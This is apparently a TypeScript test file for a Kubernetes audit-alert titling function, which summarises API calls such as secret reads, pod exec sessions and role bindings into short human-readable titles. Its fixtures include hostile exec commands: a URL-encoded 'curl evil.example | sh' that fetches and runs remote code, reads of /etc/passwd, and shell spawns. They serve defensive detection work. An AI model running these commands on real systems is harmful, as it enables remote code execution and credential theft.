import { describe, expect, it } from 'vitest';
import { floodTitle, titleOf } from '../../../../src/core/find/title/title.ts';
import type { RankedCall } from '../../../../src/core/judge/ranked-call.ts';
import { anApplied } from '../../../build.ts';
import { aCall, publicIpFactor } from '../../show/samples.ts';

const who = 'dana.ruiz@contoso.example';
const call = (over: Partial<RankedCall> = {}): RankedCall => aCall({ count: 1, ...over });
/** What it says between who and where. */
const did = (...calls: Partial<RankedCall>[]): string => {
  const title = titleOf(calls.map(call));
  expect(title).toMatch(/^dana\.ruiz@contoso\.example .* on aks-shop-prod$/);
  return title.slice(who.length + 1, -' on aks-shop-prod'.length);
};
const stream = (subresource: string, query = '', over: Partial<RankedCall> = {}): Partial<RankedCall> => ({
  resource: 'pods',
  subresource,
  names: ['web-0'],
  requestURI: `/api/v1/namespaces/payments/pods/web-0/${subresource}${query}`,
  ...over,
});

describe('one deed', () => {
  it.each<[Partial<RankedCall>, string]>([
    [{}, 'read secrets in payments'],
    [{ names: ['db'] }, 'read secret db in payments'],
    [{ names: ['db', 'api'] }, 'read 2 secrets in payments'],
    [{ names: Array.from({ length: 20 }, (_, at) => `s${at}`) }, 'read 20 or more secrets in payments'],
    [{ verb: 'list' }, 'listed secrets in payments'],
    [{ verb: 'watch', namespace: null }, 'watched secrets of all namespaces'],
    [{ verb: 'list', resource: 'nodes', namespace: null }, 'listed nodes'],
    [{ verb: 'get', resource: 'namespaces', names: ['payments'] }, 'read namespace payments'],
    [{ verb: 'create', resource: 'ingresses' }, 'created an ingress in payments'],
    [{ verb: 'create', resource: 'networkpolicies', count: 3 }, 'created network policies in payments'],
    [{ verb: 'patch', resource: 'configmaps', names: ['coredns'] }, 'changed config map coredns in payments'],
    [{ verb: 'deletecollection', resource: 'pods' }, 'deleted many pods in payments'],
    [{ verb: 'delete', resource: 'sealedsecrets', names: ['db'] }, 'deleted sealedsecrets db in payments'],
    [{ verb: 'create', resource: 'widgets', namespace: null }, 'created widgets'],
    [{ verb: 'list', resource: 'widgets', namespace: null }, 'listed widgets'],
    [{ verb: 'constructor', resource: 'widgets' }, 'sent constructor to widgets in payments'],
    [{ verb: null }, 'called a secret in payments'],
    [stream('exec', '?command=sh'), 'opened a shell in pod web-0 of payments'],
    [
      stream('exec', '?command=sh&command=-c&command=clear%3B+%28bash+%7C%7C+sh%29'),
      'opened a shell in pod web-0 of payments',
    ],
    [stream('exec', '?command=cat&command=/etc/passwd'), 'ran cat in pod web-0 of payments'],
    [stream('exec', '?command=sudo&command=cat&command=/etc/passwd'), 'ran cat in pod web-0 of payments'],
    [stream('exec', '?command=sudo&command=bash'), 'opened a shell in pod web-0 of payments'],
    [stream('exec', '?command=sudo&command=-l'), 'ran sudo in pod web-0 of payments'],
    [
      stream('exec', '?command=sh&command=-c&command=true%3B+curl+evil.example+%7C+sh'),
      'ran commands in pod web-0 of payments',
    ],
    [stream('exec', '?command=%3Cscript%3E'), 'ran a command in pod web-0 of payments'],
    [stream('exec'), 'ran a command in pod web-0 of payments'],
    [stream('attach'), 'attached to pod web-0 of payments'],
    [stream('portforward'), 'forwarded a port of pod web-0 of payments'],
    [stream('log'), 'read logs of pod web-0 in payments'],
    [{ ...stream('ephemeralcontainers'), verb: 'patch' }, 'put a debug container into pod web-0 in payments'],
    [
      { verb: 'create', resource: 'services', subresource: 'proxy' },
      'went through the API server to a service of payments',
    ],
    [
      { verb: 'create', resource: 'serviceaccounts', subresource: 'token', names: ['ci'] },
      'requested a token of service account ci in payments',
    ],
    [
      { verb: 'update', resource: 'nodes', subresource: 'status', namespace: null },
      'changed status of a node',
    ],
    [
      { verb: 'create', resource: 'selfsubjectrulesreviews', namespace: null },
      'asked about their own rights',
    ],
    [{ resource: null, namespace: null, requestURI: '/version?timeout=32s' }, 'called /version'],
    [
      { verb: 'appear', resource: null, namespace: null, requestURI: null, outcome: 'unknown' },
      'appeared from a new address',
    ],
  ])('%j', (over, words) => {
    expect(did(over)).toBe(words);
  });

  it('is told with what it gave and asked for', () => {
    const role = anApplied({ role: 'ClusterRole/cluster-admin' });
    expect(
      did({ verb: 'create', resource: 'clusterrolebindings', namespace: null, names: ['x'], applied: role }),
    ).toBe('created cluster role binding x to cluster-admin');
    const applied = anApplied({ dangerous: ['hostPID', 'privileged'] });
    expect(did({ verb: 'create', resource: 'pods', applied })).toBe('created a privileged pod in payments');
    const dangerous = { score: 60, factors: [{ ...publicIpFactor, id: 'dangerous-workload' }] };
    expect(
      did(
        { verb: 'create', resource: 'pods', applied, names: ['a'] },
        { verb: 'create', resource: 'pods', risk: dangerous, names: ['b'] },
      ),
    ).toBe('created 2 dangerous pods in payments');
  });

  it('says of many what it would say of one, and of none what only others are', () => {
    const applied = anApplied({ dangerous: ['privileged'] });
    const pods = { verb: 'create', resource: 'pods' };
    expect(did({ ...pods, applied, count: 2 })).toBe('created privileged pods in payments');
    expect(did({ ...pods, names: ['a'] }, { ...pods, names: ['b'], applied })).toBe(
      'created 2 pods (some dangerous) in payments',
    );
    // One object, written twice.
    expect(did({ ...pods, names: ['a'] }, { ...pods, names: ['a'], applied })).toBe(
      'created dangerous pod a in payments',
    );
    const binding = (role: string, over: Partial<RankedCall> = {}) => ({
      verb: 'create',
      resource: 'clusterrolebindings',
      namespace: null,
      applied: anApplied({ role: `ClusterRole/${role}` }),
      ...over,
    });
    expect(did(binding('cluster-admin', { count: 2 }))).toBe(
      'created cluster role bindings to cluster-admin',
    );
    expect(did(binding('admin', { names: ['a'] }), binding('view', { names: ['b'] }))).toBe(
      'created 2 cluster role bindings to admin and 1 more',
    );
  });

  it.each([
    [['Approved'], 'approved 1'],
    [['Approved', 'Approved'], 'approved 2'],
    [['Denied'], 'denied 1'],
    [['Approved', 'Denied'], 'ruled on 2'],
    [[null], 'ruled on 1'],
  ])('of certificate requests tells the decision %j', (decisions, words) => {
    const calls = decisions.map((decision, at) => ({
      verb: 'update',
      resource: 'certificatesigningrequests',
      subresource: 'approval',
      namespace: null,
      names: [`csr-${at}`],
      applied: anApplied({ decision }),
    }));
    const many = words.replace(' 1', ' certificate request csr-0').replace(' 2', ' 2 certificate requests');
    expect(did(...calls)).toBe(many);
  });

  it.each<[Partial<RankedCall>, string]>([
    [{ outcome: 'refused' }, 'tried to list secrets in payments (refused)'],
    [{ outcome: 'failed' }, 'tried to list secrets in payments (failed)'],
    [{ outcome: 'unknown' }, 'tried to list secrets in payments (outcome unknown)'],
    [{ dryRun: true }, 'tried to list secrets in payments (dry run)'],
    [{ dryRun: true, outcome: 'refused' }, 'tried to list secrets in payments (refused)'],
  ])('says what became of it: %j', (over, words) => {
    expect(did({ verb: 'list', ...over })).toBe(words);
  });

  it('calls an address new only where a factor says so', () => {
    const over = { verb: 'appear', resource: null, namespace: null, requestURI: null } as const;
    expect(did({ ...over, risk: { score: 40, factors: [] } })).toBe('appeared from an address of its own');
    expect(did({ ...over, risk: { score: 40, factors: [publicIpFactor] } })).toBe(
      'appeared from a new address',
    );
  });
});

describe('several deeds', () => {
  it('are one where only place, object and way of reading differ', () => {
    const calls = ['a', 'b', 'c'].map((namespace) => ({ namespace, names: ['db'] }));
    expect(did(...calls)).toBe('read 3 secrets in 3 namespaces');
    expect(did(...calls, { verb: 'list', namespace: 'd' })).toBe('read secrets in 4 namespaces');
    expect(did(stream('exec', '?command=sh', { names: ['a', 'b'] }), stream('exec', '?command=bash'))).toBe(
      'opened a shell in 3 pods of payments',
    );
    expect(did(stream('exec', '?command=sh'), stream('exec', '?command=id', { names: ['a'] }))).toBe(
      'opened a shell and ran commands in 2 pods of payments',
    );
    const proxied = { resource: 'nodes', subresource: 'proxy', namespace: null, names: ['a'] };
    expect(did({ ...proxied, verb: 'create' }, { ...proxied, verb: 'get', names: ['a', 'b'] })).toBe(
      'went through the API server to 2 nodes',
    );
    const paths = ['/api', '/apis', '/version'];
    expect(did(...paths.map((requestURI) => ({ resource: null, namespace: null, requestURI })))).toBe(
      'called 3 paths of the API',
    );
  });

  it('stand by risk, of equal risk by weight, what was refused apart', () => {
    const risk = (score: number, weight = 1) => ({ score, factors: [{ ...publicIpFactor, weight }] });
    expect(
      did(
        { verb: 'list', resource: 'nodes', namespace: null, risk: risk(30) },
        { verb: 'list', resource: 'pods', risk: risk(60) },
        { verb: 'list', outcome: 'refused', risk: risk(60, 3) },
        { verb: 'list', risk: risk(30) },
      ),
    ).toBe('tried to list secrets in payments (refused), listed pods in payments, listed nodes and 1 more');
  });

  it('lose their names before they are left out', () => {
    const long = (resource: string) => ({ verb: 'create', resource, names: [`${'x'.repeat(20)}-of-nobody`] });
    expect(did(long('pods'), long('jobs'))).toBe(
      `created pod ${'x'.repeat(20)}-of-nobody in payments and created job ${'x'.repeat(20)}-of-nobody in payments`,
    );
    expect(did(long('pods'), long('jobs'), long('secrets'))).toBe(
      'created a pod in payments, created a job in payments and created a secret in payments',
    );
  });
});

describe('who', () => {
  const taken = { user: 'bob', impersonatedBy: 'eve', impersonatedGroups: ['system:masters'] };
  it.each<[Partial<RankedCall>, string]>([
    [{ user: '' }, 'a caller without a name read secrets'],
    [taken, 'bob (impersonated by eve, with system:masters) read secrets'],
    [{ ...taken, impersonatedGroups: ['g'.repeat(200)] }, 'bob (impersonated by eve) read secrets'],
    [
      { ...taken, user: 'b'.repeat(36), impersonatedBy: 'e'.repeat(48), impersonatedGroups: [] },
      `${'b'.repeat(36)} (impersonated by ${'e'.repeat(48)}) read secrets`,
    ],
    [
      { ...taken, user: 'b'.repeat(300), impersonatedBy: 'e'.repeat(300) },
      `${'b'.repeat(35)}… (impersonated by ${'e'.repeat(35)}…) read secrets`,
    ],
    [
      { ...taken, user: 'b'.repeat(300) },
      `${'b'.repeat(35)}… (impersonated by eve, with system:masters) read secrets`,
    ],
  ])('%j', (over, start) => {
    expect(titleOf([call(over)])).toContain(`${start} in payments on aks-shop-prod`);
  });
});

it('is bounded and well-formed whatever callers write', () => {
  const long = '😀'.repeat(300);
  const hostile = {
    user: long,
    impersonatedBy: long,
    impersonatedGroups: [long],
    cluster: long,
    verb: long,
    resource: long,
    subresource: long,
    namespace: long,
    names: [long],
    requestURI: `/${long}`,
  };
  for (const over of [
    {},
    { resource: null },
    { subresource: null },
    { resource: 'pods', subresource: 'exec' },
  ]) {
    const title = titleOf([call({ ...hostile, ...over }), call(hostile)]);
    expect(title.length).toBeLessThanOrEqual(160);
    expect(title.isWellFormed()).toBe(true);
  }
  expect(floodTitle(long, 10_050, long).length).toBeLessThan(160);
});
